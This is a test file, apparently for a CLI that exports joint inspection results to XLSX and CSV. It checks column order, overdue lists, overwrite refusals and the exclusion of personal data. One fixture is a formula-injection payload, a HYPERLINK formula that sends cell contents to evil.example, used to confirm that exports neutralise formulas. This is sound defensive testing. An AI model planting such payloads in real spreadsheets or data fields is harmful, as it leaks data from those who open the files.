/**
 * `liancha results export ID FILE.xlsx [--csv] [--force]` end to end through the CLI (SQLite): the Wuhai food task
 * imported, created, frozen and drawn; a few results saved directly (a complete target, a partial one whose name
 * was changed to a formula, one part on the second team); then the XLSX read back with exceljs and its XML, the
 * CSV pair, what is left out (risk classes, phones, ID numbers…), refusals to overwrite and for undrawn tasks.
 */
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Result } from '../../src/domain/result.ts';
import { csvField, csvText, xlsxBuffer } from '../../src/export/table-file.ts';
import { openStore } from '../../src/storage/db.ts';
import { upsertResults } from '../../src/storage/results.ts';
import { teamTargetList } from '../helpers/team-targets.ts';
import { runCli } from '../helpers/cli.ts';
import { freshSqliteUrl } from '../helpers/stores.ts';
import { importWuhai, WUHAI_DIR } from '../helpers/wuhai.ts';

const TASK = 'WH-2026-FOOD-01';
const DRAFT = 'WH-2026-FOOD-DRAFT';
const VOIDED = 'WH-2026-FOOD-VOID';
const TASK_NAME = '2026年第四季度餐饮服务单位部门联合抽查';
const ITEMS = '食品经营许可情况的检查、食品安全管理制度落实情况的检查、安全生产责任制落实情况的检查';
const SCJG = '市市场监督管理局';
const WJW = '市卫生健康委员会';
const YJGL = '市应急管理局';
/** The office's today: after the window; a part inspected on 2026-12-01 was due 2026-12-29. */
const clock = () => new Date('2027-01-05T10:00:00+08:00');
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';

const HEADER = [
  '序号',
  '检查对象名称',
  '统一社会信用代码',
  '抽查事项',
  '检查实施部门',
  '检查日期',
  '检查结果',
  '任务名称',
];
const MISSING_HEADER = ['检查对象名称', '统一社会信用代码', '缺少的部门', '录入期限', '是否逾期'];

function taskFile(id: string): string {
  const path = join(mkdtempSync(join(tmpdir(), 'liancha-task-')), `${id}.yaml`);
  writeFileSync(path, `id: ${id}\n` + readFileSync(join(WUHAI_DIR, 'task-food.yaml'), 'utf8'));
  return path;
}

const cli = (url: string, args: string[]) => runCli(url, args, { clock });

const outDir = () => mkdtempSync(join(tmpdir(), 'liancha-results-export-'));

/** One clear line on stderr, exit 1, nothing on stdout. */
function refused(res: { code: number; stdout: string; stderr: string }, pattern: RegExp) {
  expect(res.code, res.stderr).toBe(1);
  expect(res.stderr).toMatch(/^error: [^\n]+\n$/);
  expect(res.stderr).toMatch(pattern);
  expect(res.stdout).toBe('');
}

function part(
  uscc: string,
  team: number,
  dept: string,
  categories: string[],
  inspectedOn: string,
  extra: Partial<Result> = {},
): Result {
  return {
    taskId: TASK,
    uscc,
    dept,
    team,
    categories,
    inspectedOn,
    methods: ['书面检查'],
    note: null,
    followup: null,
    enteredBy: 'ou_test',
    enteredAt: '2026-12-20T02:00:00.000Z',
    source: 'import',
    version: 1,
    ...extra,
  };
}

/** Every cell of a worksheet as text rows (exceljs), with each cell's type and formula. */
function sheetRows(ws: ExcelJS.Worksheet) {
  const rows: string[][] = [];
  const cells: { type: ExcelJS.ValueType; formula: unknown; value: unknown }[] = [];
  ws.eachRow({ includeEmpty: true }, (row) => {
    const values: string[] = [];
    for (let i = 1; i <= ws.columnCount; i++) {
      const c = row.getCell(i);
      cells.push({ type: c.type, formula: c.formula, value: c.value });
      values.push(c.value === null ? '' : String(c.value));
    }
    rows.push(values);
  });
  return { rows, cells };
}

describe('results export', () => {
  let url = '';
  let teams: { uscc: string; team: number }[] = [];
  /** Phone, mobile, certificate and ID-card numbers, addresses: none may appear anywhere in a file. */
  let secrets: string[] = [];
  /** Legal representatives and the drawn inspectors' names: no cell may be one (a shop's name may contain one). */
  let people: string[] = [];
  let expectedRows: string[][] = [];
  let expectedMissing: string[][] = [];

  beforeAll(async () => {
    url = freshSqliteUrl();
    await importWuhai(url);
    for (const id of [TASK, DRAFT, VOIDED])
      expect((await cli(url, ['task', 'create', taskFile(id)])).code).toBe(0);
    expect((await cli(url, ['draw', 'freeze', TASK, '--entropy-source', 'test'])).code).toBe(0);
    const run = await cli(url, ['draw', 'run', TASK, '--entropy', 'export test']);
    expect(run.code, run.stderr).toBe(0);
    expect((await cli(url, ['task', 'void', VOIDED, '--reason', '重复创建'])).code).toBe(0);

    const store = openStore(url);
    try {
      teams = await teamTargetList(store.db, TASK);
      const team1 = teams.filter((t) => t.team === 1);
      const team2 = teams.filter((t) => t.team === 2);
      expect(team1.length).toBeGreaterThanOrEqual(3);
      expect(team2.length).toBeGreaterThanOrEqual(1);
      const [complete, partial, untouched] = team1 as [
        (typeof team1)[0],
        (typeof team1)[0],
        (typeof team1)[0],
      ];
      const other = team2[0]!;
      await store.db
        .updateTable('targets')
        .set({ name: FORMULA_NAME })
        .where('uscc', '=', partial.uscc)
        .execute();
      await store.db.transaction().execute((trx) =>
        upsertResults(trx, store, [
          // Saved out of department order: the export orders by the task's departments (initiator first).
          part(complete.uscc, 1, 'YJGL', ['NOT_DISCLOSED', 'CORRECTED'], '2026-12-08'),
          part(complete.uscc, 1, 'SCJG', ['NO_ISSUE'], '2026-12-08'),
          part(complete.uscc, 1, 'WJW', ['NO_ISSUE'], '2026-12-09'),
          part(partial.uscc, 1, 'WJW', ['PENDING_FOLLOWUP'], '2026-12-01', { followup: '移交稽查' }),
          part(partial.uscc, 1, 'SCJG', ['UNREACHABLE'], '2026-12-01'),
          part(other.uscc, 2, 'WJW', ['NO_RELEVANT_ACTIVITY'], '2026-12-10'),
        ]),
      );
      const targets = await store.db
        .selectFrom('targets')
        .select(['uscc', 'name', 'risk', 'phone', 'legal_rep', 'address'])
        .where(
          'uscc',
          'in',
          teams.map((t) => t.uscc),
        )
        .execute();
      const nameOf = new Map(targets.map((t) => [t.uscc, t.name]));
      secrets = targets.flatMap((t) => [t.phone, t.address].filter((v): v is string => !!v));
      people = targets.flatMap((t) => (t.legal_rep ? [t.legal_rep] : []));
      expect(secrets.length).toBeGreaterThan(teams.length);
      expect(new Set(targets.map((t) => t.risk)).size).toBeGreaterThan(0);
      const members = await store.db
        .selectFrom('team_members')
        .innerJoin('inspectors', 'inspectors.cert_no', 'team_members.cert_no')
        .select(['inspectors.cert_no', 'inspectors.mobile', 'inspectors.name'])
        .where('task_id', '=', TASK)
        .execute();
      // Certificate and mobile numbers of the drawn inspectors, and every ID-card number the fixture holds.
      const idNumbers = (
        parse(readFileSync(join(WUHAI_DIR, 'inspectors.csv')), { bom: true, columns: true }) as {
          身份证号: string;
        }[]
      )
        .map((r) => r.身份证号)
        .filter(Boolean);
      expect(idNumbers.length).toBeGreaterThan(0);
      secrets.push(...members.flatMap((m) => [m.cert_no, m.mobile ?? '']).filter(Boolean), ...idNumbers);
      people.push(...members.map((m) => m.name));

      const row = (n: number, uscc: string, dept: string, date: string, result: string) => [
        String(n),
        nameOf.get(uscc)!,
        uscc,
        ITEMS,
        dept,
        date,
        result,
        TASK_NAME,
      ];
      expectedRows = [
        row(1, complete.uscc, SCJG, '2026-12-08', '未发现问题'),
        row(2, complete.uscc, WJW, '2026-12-09', '未发现问题'),
        row(3, complete.uscc, YJGL, '2026-12-08', '未按规定公示应当公示的信息、发现问题已责令改正'),
        row(4, partial.uscc, SCJG, '2026-12-01', '通过登记的住所（经营场所）无法联系'),
        row(5, partial.uscc, WJW, '2026-12-01', '发现问题待后续处理'),
        row(6, other.uscc, WJW, '2026-12-10', '未发现开展本次抽查涉及的经营活动'),
      ];
      // Every target but the complete one, in team and visiting order. Without an inspection date a target is due
      // 20 working days after the window's end (2026-12-31), in 2027, which the calendar does not cover yet: 暂定.
      expectedMissing = teams
        .filter((t) => t.uscc !== complete.uscc)
        .map((t) => {
          if (t.uscc === partial.uscc) return [FORMULA_NAME, t.uscc, YJGL, '2026-12-29', '是'];
          if (t.uscc === other.uscc)
            return [
              nameOf.get(t.uscc)!,
              t.uscc,
              `${SCJG}、${YJGL}`,
              expect.stringMatching(/^2027-01-\d\d（暂定）$/),
              '否',
            ];
          return [
            nameOf.get(t.uscc)!,
            t.uscc,
            `${SCJG}、${WJW}、${YJGL}`,
            expect.stringMatching(/^2027-\d\d-\d\d（暂定）$/),
            '否',
          ];
        });
      expect(expectedMissing.some((r) => r[0] === nameOf.get(untouched.uscc))).toBe(true);
    } finally {
      await store.close();
    }
  });

  it('writes the notice and the missing list as two sheets of text cells, without any formula', async () => {
    const file = join(outDir(), '公示.xlsx');
    const res = await cli(url, ['results', 'export', TASK, file]);
    expect(res.code, res.stderr).toBe(0);
    expect(res.stdout).toBe(
      `wrote ${file}: 6 result rows, ${teams.length - 1} targets without a complete result\n`,
    );

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['抽查结果', '未录入']);
    const [main, missing] = wb.worksheets as [ExcelJS.Worksheet, ExcelJS.Worksheet];

    const m = sheetRows(main);
    expect(m.rows[0]).toEqual(HEADER);
    expect(m.rows.slice(1)).toEqual(expectedRows);
    expect(m.rows.slice(1).find((r) => r[1] === FORMULA_NAME)).toBeDefined();
    const s = sheetRows(missing);
    expect(s.rows[0]).toEqual(MISSING_HEADER);
    expect(s.rows.slice(1)).toEqual(expectedMissing);

    for (const cell of [...m.cells, ...s.cells]) {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      expect(typeof cell.value).toBe('string');
    }
    for (const ws of [main, missing]) {
      expect(ws.getRow(1).getCell(1).font?.bold).toBe(true);
      expect(ws.getRow(2).getCell(1).font?.bold).toBeFalsy();
      for (let i = 1; i <= ws.columnCount; i++) {
        const width = ws.getColumn(i).width ?? 0;
        expect(width).toBeGreaterThanOrEqual(6);
        expect(width).toBeLessThanOrEqual(60);
      }
    }
    // The USCC column fits an 18-character code; the items column is wide but capped.
    expect(main.getColumn(3).width).toBeGreaterThanOrEqual(18);

    // The file itself: string cells (shared strings), no <f> formula element in any sheet.
    const zip = await JSZip.loadAsync(readFileSync(file));
    const sheetXml = await Promise.all(
      Object.keys(zip.files)
        .filter((n) => n.startsWith('xl/worksheets/') && n.endsWith('.xml'))
        .map((n) => zip.file(n)!.async('string')),
    );
    expect(sheetXml).toHaveLength(2);
    for (const xml of sheetXml) {
      expect(xml).not.toMatch(/<f[ >]/);
      expect(xml).not.toMatch(/<c [^>]*t="(?!s")/); // every cell a shared string
    }

    // Nothing internal or personal, anywhere in the workbook.
    const everything = (
      await Promise.all(
        Object.values(zip.files)
          .filter((f) => !f.dir)
          .map((f) => f.async('string')),
      )
    ).join('\n');
    const cells = [...m.rows, ...s.rows].flat();
    for (const secret of secrets) expect(everything, secret).not.toContain(secret);
    for (const person of people) expect(cells, person).not.toContain(person);
    expect(cells.some((c) => /^[ABCD]$/.test(c))).toBe(false); // no risk-class column
    expect(everything).not.toMatch(/风险|risk/i);
  });

  it('--csv writes the same rows as UTF-8 with BOM and CRLF, the missing list beside it, formulas quoted', async () => {
    const dir = outDir();
    const file = join(dir, '公示.csv');
    const res = await cli(url, ['results', 'export', TASK, file, '--csv']);
    expect(res.code, res.stderr).toBe(0);
    expect(res.stdout).toContain(`wrote ${file} and ${join(dir, '公示.missing.csv')}`);

    for (const [path, header, rows] of [
      [file, HEADER, expectedRows],
      [join(dir, '公示.missing.csv'), MISSING_HEADER, expectedMissing],
    ] as const) {
      const bytes = readFileSync(path);
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const text = bytes.toString('utf8');
      expect(text.endsWith('\r\n')).toBe(true);
      expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
      const parsed = parse(bytes, { bom: true }) as string[][];
      // OWASP: a field that starts with = + - @ gets a leading quote in CSV, so a spreadsheet shows it as text.
      const quoted = rows.map((r) => r.map((c) => (c === FORMULA_NAME ? `'${FORMULA_NAME}` : c)));
      expect(parsed).toEqual([header, ...quoted]);
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")"`);
      for (const secret of secrets) expect(text).not.toContain(secret);
      for (const person of people) expect(parsed.flat()).not.toContain(person);
    }
  });

  it('does not overwrite a file without --force, nor the database ever', async () => {
    const dir = outDir();
    const file = join(dir, 'results.xlsx');
    writeFileSync(file, 'keep me\n');
    refused(
      await cli(url, ['results', 'export', TASK, file]),
      /results\.xlsx already exists: choose another file name, or add --force to overwrite it/,
    );
    expect(readFileSync(file, 'utf8')).toBe('keep me\n');
    expect((await cli(url, ['results', 'export', TASK, file, '--force'])).code).toBe(0);
    expect([...readFileSync(file).subarray(0, 2)]).toEqual([0x50, 0x4b]); // a zip: the XLSX

    // CSV: the pair is all or nothing — an existing missing list stops both files.
    const csv = join(dir, 'results.csv');
    writeFileSync(join(dir, 'results.missing.csv'), 'keep me too\n');
    refused(
      await cli(url, ['results', 'export', TASK, csv, '--csv']),
      /results\.missing\.csv already exists/,
    );
    expect(existsSync(csv)).toBe(false);
    expect(readFileSync(join(dir, 'results.missing.csv'), 'utf8')).toBe('keep me too\n');
    expect((await cli(url, ['results', 'export', TASK, csv, '--csv', '--force'])).code).toBe(0);
    expect(readFileSync(join(dir, 'results.missing.csv'), 'utf8')).toMatch(/^\uFEFF检查对象名称,/);

    const dbPath = url.slice('file:'.length);
    const before = readFileSync(dbPath).length;
    for (const args of [[], ['--force'], ['--csv', '--force']])
      refused(
        await cli(url, ['results', 'export', TASK, dbPath, ...args]),
        /is liancha's own database \(DATABASE_URL\): write the export to another file/,
      );
    expect(readFileSync(dbPath).subarray(0, 16).toString()).toBe('SQLite format 3\0');
    expect(readFileSync(dbPath).length).toBe(before);
  });

  it('refuses a task that was not drawn, a void task and an unknown one, in one line', async () => {
    const file = join(outDir(), 'x.xlsx');
    refused(
      await cli(url, ['results', 'export', DRAFT, file]),
      /^error: task WH-2026-FOOD-DRAFT is draft: it has not been drawn yet, so it has no results to export\n$/,
    );
    refused(
      await cli(url, ['results', 'export', VOIDED, file]),
      /is void \(重复创建\): its results are not published/,
    );
    refused(await cli(url, ['results', 'export', 'NOPE', file]), /no task with id NOPE/);
    expect(existsSync(file)).toBe(false);
  });
});

describe('the table writer (src/export/table-file.ts)', () => {
  it('CSV: a quote before = + - @ tab CR, RFC 4180 quoting, BOM and CRLF', () => {
    expect(
      ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', 'a,b', 'say "hi"', 'two\nlines', '1-2', 'a=b'].map(
        csvField,
      ),
    ).toEqual([
      "'=1+1",
      "'+1",
      "'-1",
      "'@SUM(A1)",
      "'\tx",
      '"\'\rx"',
      '"a,b"',
      '"say ""hi"""',
      '"two\nlines"',
      '1-2',
      'a=b',
    ]);
    expect(csvText({ name: 't', header: ['a', 'b'], rows: [['1', '=2']] })).toBe("\uFEFFa,b\r\n1,'=2\r\n");
  });

  it('XLSX: text XML cannot hold is dropped, so the file still opens; + - @ stay exactly as they are', async () => {
    const buf = await xlsxBuffer([
      { name: 'a', header: ['h'], rows: [['x\u0001y\u000b\uFFFE\uD800z 😀'], ['+1'], ['-1'], ['@x']] },
    ]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Uint8Array.from(buf).buffer);
    const ws = wb.worksheets[0]!;
    expect([2, 3, 4, 5].map((r) => ws.getCell(r, 1).value)).toEqual(['xyz 😀', '+1', '-1', '@x']);
    expect([2, 3, 4, 5].map((r) => ws.getCell(r, 1).type)).toEqual(Array(4).fill(ExcelJS.ValueType.String));
  });
});
